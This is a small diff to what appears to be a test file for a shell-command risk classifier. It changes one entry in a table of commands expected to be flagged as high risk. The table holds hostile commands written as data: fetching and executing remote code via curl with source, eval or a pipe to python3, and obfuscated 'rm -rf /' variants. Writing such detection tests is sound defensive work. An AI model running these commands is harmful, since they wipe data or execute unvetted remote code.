@@ -87,7 +87,7 @@ describe('what cannot be verified', () => {
     'source <(curl -s https://example.com/x)',
     'eval "$(curl -s https://example.com/x)"',
     '$CMD -rf /',
-    '"$(echo rm)" -rf /',
+    '"$(head -1 cmds.txt)" -rf /',
     'sh -c "$SCRIPT"',
     'curl https://x | python3',
   ])('%s is execute-unverifiable, high risk', async (command) => {
